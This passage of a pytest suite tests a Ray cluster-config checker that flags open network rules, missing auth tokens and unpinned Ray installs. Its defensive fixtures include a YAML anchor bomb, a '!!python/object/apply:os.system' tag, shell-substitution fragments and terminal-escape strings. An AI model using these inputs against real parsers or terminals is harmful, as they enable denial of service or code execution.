    assert beside(tmp_path, claim) == []
    rule = {"from": [{"ipBlock": {"cidr": "10.0.0.0/8"}}]}
    policies = {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy"}
    assert beside(tmp_path, policies | {"spec": {"ingress": [rule]}}) == []
    rule = {"from": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}
    (only,) = beside(tmp_path, policies | {"spec": {"ingress": [rule]}})
    assert "which is the whole world" in only
    (other,) = beside(tmp_path, filled(RAYJOB) | {"kind": "RayService"})
    assert "found 'RayService'" in other


def test_the_token_may_be_asked_for_where_it_reaches_ray() -> None:
    """Docker's options, the start command, or a shell's start; on the host, not in a container."""
    export = "echo 'export RAY_AUTH_MODE=token' >> ~/.bashrc"
    bare = planted(AWS, ("docker", "run_options"), [])
    assert len(sentences(bare | {"initialization_commands": [export]})) == 2
    assert sentences(bare | {"setup_commands": [export]}) == []
    starts = {
        "head_start_ray_commands": [f"RAY_AUTH_MODE=token {HEAD_START}"],
        "worker_start_ray_commands": ["RAY_AUTH_MODE=token ray start"],
    }
    assert sentences(bare | starts) == []
    own = filled(LOCAL) | {"worker_start_ray_commands": ["ray start"]}
    assert sentences(own) == []
    assert len(sentences(own | {"initialization_commands": []})) == 1


def test_no_name_of_a_head_takes_it_out_of_the_policy() -> None:
    for name in ("_need", "_any", "_rule", "*", "any", "_x"):
        content = filled(AWS) | {"head_node_type": name}
        types = content["available_node_types"]
        types[name] = types.pop("head") | {"resources": {}}
        found = sentences(content)
        assert any("0 CPUs, for a head" in each for each in found), (name, found)


def test_network_keys_may_stand_in_network_interfaces() -> None:
    content = filled(AWS)
    node = content["available_node_types"]["gpu_worker"]["node_config"]
    node["NetworkInterfaces"] = [
        {"SubnetId": node.pop("SubnetIds")[0], "Groups": node.pop("SecurityGroupIds")}
    ]
    assert sentences(content) == []


def test_the_dashboard_of_kuberay_may_listen_where_its_service_looks() -> None:
    params = {"num-cpus": "0", "dashboard-host": "0.0.0.0"}
    content = planted(RAYJOB, (*KUBEHEAD, "rayStartParams"), params)
    assert sentences(content) == []


def test_a_raycluster_is_checked_as_that_of_a_job() -> None:
    job = filled(RAYJOB)
    cluster = {"apiVersion": "ray.io/v1", "kind": "RayCluster", "metadata": {"name": "raydrop"}}
    cluster["spec"] = job["spec"]["rayClusterSpec"]
    assert sentences(cluster) == []
    cluster["spec"]["authOptions"] = {"mode": "disabled"}
    (only,) = sentences(cluster)
    assert only.startswith("spec.authOptions.mode: Expected 'token'")


@pytest.mark.parametrize(
    ("command", "found"),
    [
        ("ray stop; ray start --head", []),
        ("which ray || pip install -U ray", ["ray"]),
        ("uv pip install 'ray[tune]~=2.60.0' torch", ["ray[tune]~=2.60.0"]),
        ("python -m pip install ray==1 && pip3 install ray==2", ["ray==1", "ray==2"]),
        ("pip install raydrop ray-lightning xray ~/raydrop 'raytune==2'", []),
        ("pip install -c ~/ray/constraints.txt ./ray", []),
        (
            "pip install https://x/ray-3.0.0.dev0-cp310-cp310-linux.whl",
            ["https://x/ray-3.0.0.dev0"],
        ),
        ("pip install \\\n  ray==2", ["ray==2"]),
        ('pip install "ray', ['"ray']),
    ],
)
def test_what_a_command_installs_as_ray(command: str, found: list[str]) -> None:
    words = installed_rays(command)
    if command.endswith('"ray'):
        return  # a quotation that does not end: read as well as it goes
    assert len(words) == len(found)
    assert all(word.startswith(start) for word, start in zip(words, found, strict=True))


def test_only_the_installed_ray_may_be_installed() -> None:
    assert list(installs(f"pip install 'ray[default] == {ray_version()}'")) == []
    assert list(installs(f"pip install ray=={ray_version()}.1"))
    assert tag_of(f"host:5000/a/ray:{ray_version()}") == ray_version()


def _main(monkeypatch: pytest.MonkeyPatch, *arguments: object) -> int:
    monkeypatch.setattr(sys, "argv", ["raydrop", "cluster", "check", *map(str, arguments)])
    with pytest.raises(SystemExit) as exit_:
        cli.main()
    return int(exit_.value.code or 0)


def test_the_command_says_what_is_sound_and_what_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _main(monkeypatch, "--template", *FILES) == 0
    out = capsys.readouterr().out
    assert out.count(f": sound, for Ray {ray_version()}") == len(FILES)
    assert _main(monkeypatch, AWS) == 1
    said = capsys.readouterr()
    assert "provider.region: Expected a value of yours, found FILL_IN_REGION" in said.err
    assert "sound" not in said.out
    sound = tmp_path / "sound.yaml"
    sound.write_text(yaml.safe_dump(filled(LOCAL)))
    missing = tmp_path / "missing.yaml"
    assert _main(monkeypatch, missing, sound) == 1
    said = capsys.readouterr()
    assert "sound.yaml: sound" in said.out
    assert said.err.count("Expected") == 1


BOMB = "a0: &a0 [x, x]\n" + "".join(
    f"a{n + 1}: &a{n + 1} [{', '.join([f'*a{n}'] * 10)}]\n" for n in range(12)
)
MERGED = "a0: &a0 {k: x}\n" + "".join(
    f"a{n + 1}: &a{n + 1} {{<<: [{', '.join([f'*a{n}'] * 10)}], k{n}: x}}\n" for n in range(12)
)
UNREADABLE = {
    "unclosed": "a: [1",
    "colons": "a: b: c",
    "bytes": b"\xff\xfe\x00\x81",
    "sixteen": "provider: {type: aws}".encode("utf-16"),
    "object": "!!python/object/apply:os.system ['true']",
    "tag": "provider: !secret x",
    "bomb": BOMB,
    "merged": MERGED,
    "itself": "a: &a [*a]",
    "itself-merged": "a: &a {<<: *a}",
    "deep": "[" * 100_000,
    "deep-lines": "\n".join("  " * n + "a:" for n in range(400)),
    "deep-keys": "? " * 50_000,
    "wide": "[" + "x," * 100_000 + "]",
    "twice": "provider: {type: aws, region: a, region: b}",
    "twice-quoted": "provider: {type: aws}\n'provider': {type: local}",
    "number": f"a: {'9' * 5000}",
    "no-number": "a: !!int x",
    "no-truth": "a: !!bool x",
    "no-date": "a: 2026-99-99",
    "list-as-key": "? [a]\n: b",
    "large": "# " + "x" * 2**18,
}


def write(path: Path, content: str | bytes | None) -> Path:
    """Write a file's content, unless there is none."""
    if content is not None:
        path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


@pytest.mark.parametrize("name", UNREADABLE)
def test_yaml_that_is_not_plain_or_not_bounded_is_refused_at_once(
    name: str, tmp_path: Path
) -> None:
    path, before = write(tmp_path / "file.yaml", UNREADABLE[name]), time.process_time()
    with pytest.raises(ConfigError) as error:
        check_file(path)
    assert time.process_time() - before < 5
    said = str(error.value)
    assert "cannot be read" in said or "bytes where" in said
    assert "\n" not in said
    assert len(said) < 800


HOSTILE = [
    text * (18_000 // len(text))
    for text in (
        *("-", "--a-", "'\"", "`a ", "$(a ", "a|", "a:1/", "0.0.0", "RAY_AUTH_MODE"),
        *("pip install ray ", "chmod go=,go=, ~/.ray ", "curl \x1b[2J\u202e"),
    )
]
"""Texts that take for ever where a pattern or a reader goes back, or steer a terminal."""


@pytest.mark.parametrize(
    ("file", "keys", "texts"),
    [
        (AWS, SETUP, HOSTILE),
        (AWS, OPTIONS, [text for text in HOSTILE if not set("()`|") & set(text)]),
        (AWS, OPTIONS, HOSTILE),
        (RAYJOB, (*CONTAINER, "image"), HOSTILE[0]),
    ],
    ids=["command", "option", "odd-option", "image"],
)
def test_texts_of_any_kind_are_judged_at_once(file: Path, keys: Keys, texts: Any) -> None:
    content = planted(file, keys, texts)
    before = time.process_time()
    found = sentences(content)
    assert time.process_time() - before < 5
    assert found
    assert all(each.isprintable() and len(each) < 1000 for each in found)


def test_what_is_no_file_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    for path in (tmp_path / "pipe", Path("/dev/zero"), tmp_path):
        with pytest.raises(ConfigError, match="instead of a file; check the path"):
            check_file(path)


def test_anchors_and_merged_keys_may_be_used(tmp_path: Path) -> None:
    text = PLACEHOLDER.sub("mine", AWS.read_text())
    assert "<<: *machine" in text
    assert check_file(write(tmp_path / "file.yaml", text)) == []


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"a: [1", "cannot be read"),
        (b"", "found neither"),
        (b"- 1\n- 2\n", "found neither"),
        (b"just words", "found neither"),
        (b"provider: {type: aws}\n---\nprovider: {type: aws}\n", "found neither"),
        (b"apiVersion: v1\nkind: List\nitems: []\n", "found neither"),
        (None, "No such file"),
    ],
    ids=["unclosed", "empty", "list", "words", "two", "kubernetes", "missing"],
)
def test_a_file_that_describes_no_cluster_is_refused_in_a_sentence(
    content: bytes | None,
    said: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = write(tmp_path / "file.yaml", content)
    with pytest.raises(ConfigError, match=said):
        check_file(path)
    assert _main(monkeypatch, path) == 1
    error = capsys.readouterr().err.strip()
    assert "\n" not in error
    assert said in error


@pytest.mark.parametrize("broken", [None, 1, "text", [1], {"a": None}], ids=repr)
@pytest.mark.parametrize("file", [AWS, LOCAL, RAYJOB], ids=lambda f: f.name)
def test_whatever_stands_in_a_key_is_met_with_sentences(file: Path, broken: Any) -> None:
    problems = kuberay_problems if file == RAYJOB else launcher_problems
    for key in filled(file):
        for problem in problems(filled(file) | {key: broken}):
            assert str(problem).endswith(".")


@pytest.fixture
def aws(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[], dict[str, Any]]]:
    """Give an account of a simulated AWS: what it holds that a cluster might have made."""
    moto = pytest.importorskip("moto", reason="moto simulates AWS")
    boto3 = pytest.importorskip("boto3")
    for name in ("ACCESS_KEY_ID", "SECRET_ACCESS_KEY"):
        monkeypatch.setenv(f"AWS_{name}", "none")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    with moto.mock_aws():
        ec2, iam = boto3.client("ec2"), boto3.client("iam")

        def account() -> dict[str, Any]:
            reservations = ec2.describe_instances()["Reservations"]
            return {
                "groups": ec2.describe_security_groups()["SecurityGroups"],
                "keys": ec2.describe_key_pairs()["KeyPairs"],
                "roles": iam.list_roles()["Roles"],
                "profiles": iam.list_instance_profiles()["InstanceProfiles"],
                "instances": [i for each in reservations for i in each["Instances"]],
            }

        yield account


def _with_ids(account: dict[str, Any]) -> dict[str, Any]:
    """Return cluster.yaml with a group, a subnet, a key and a profile of a simulated account."""
    import boto3

    ec2, iam = boto3.client("ec2"), boto3.client("iam")
    subnets = ec2.describe_subnets()["Subnets"]
    subnet = next(each for each in subnets if each["AvailabilityZone"] == "us-east-1a")
    group = ec2.create_security_group(GroupName="g", Description="g", VpcId=subnet["VpcId"])
    ec2.create_key_pair(KeyName="k")
    profile = iam.create_instance_profile(InstanceProfileName="p")["InstanceProfile"]
    values = {
        "FILL_IN_REGION": "us-east-1",
        "FILL_IN_ZONES": "us-east-1a",
        "FILL_IN_IMAGE_ID": "ami-12c6146b",
        "FILL_IN_KEY_NAME": "k",
        "FILL_IN_SECURITY_GROUP_ID": group["GroupId"],
        "FILL_IN_SUBNET_ID": subnet["SubnetId"],
        "FILL_IN_PROFILE_ARN": profile["Arn"],
        "FILL_IN_WORKER_PROFILE_ARN": profile["Arn"],
    }
    text = PLACEHOLDER.sub(lambda match: values.get(match[0], "mine"), AWS.read_text())
    content: dict[str, Any] = yaml.safe_load(text)
    return content


def _bootstrapped(content: dict[str, Any]) -> dict[str, Any]:
    from ray.autoscaler._private.aws.config import bootstrap_aws
    from ray.autoscaler._private.aws.node_provider import AWSNodeProvider
    from ray.autoscaler._private.util import prepare_config

    config = AWSNodeProvider.fillout_available_node_types_resources(prepare_config(content))
    prepared: dict[str, Any] = bootstrap_aws(config)
    return prepared


@pytest.mark.ray
def test_ray_makes_nothing_in_an_account_but_the_machines_unless_a_group_is_missing(
    aws: Callable[[], dict[str, Any]],
) -> None:
    from ray.autoscaler._private.aws.node_provider import AWSNodeProvider

    content = _with_ids(aws())
    before = aws()
    assert "0.0.0.0/0" not in str([group["IpPermissions"] for group in before["groups"]])
    config = _bootstrapped(copy.deepcopy(content))
    assert aws() == before
    types = config["available_node_types"]
    assert (types["head"]["resources"]["CPU"], types["gpu_worker"]["resources"]["GPU"]) == (0, 1)
    provider = AWSNodeProvider(config["provider"], "raydrop")
    for node in types.values():
        provider.create_node(copy.deepcopy(node["node_config"]), {}, 1)
    head, worker = sorted(aws()["instances"], key=lambda each: "InstanceLifecycle" in each)
    assert (head.get("InstanceLifecycle"), worker["InstanceLifecycle"]) == (None, "spot")
    for machine in (head, worker):
        (own,) = machine["SecurityGroups"]
        assert own["GroupName"] == "g"
        assert machine["MetadataOptions"]["HttpTokens"] == "required"
    provider.terminate_nodes([head["InstanceId"], worker["InstanceId"]])
    assert {machine["State"]["Name"] for machine in aws()["instances"]} == {"terminated"}
    # Negative control: what the policy says of Ray's default is so.
    for node in content["available_node_types"].values():
        del node["node_config"]["SecurityGroupIds"]
    _bootstrapped(content)
    assert "0.0.0.0/0" in str([group["IpPermissions"] for group in aws()["groups"]])
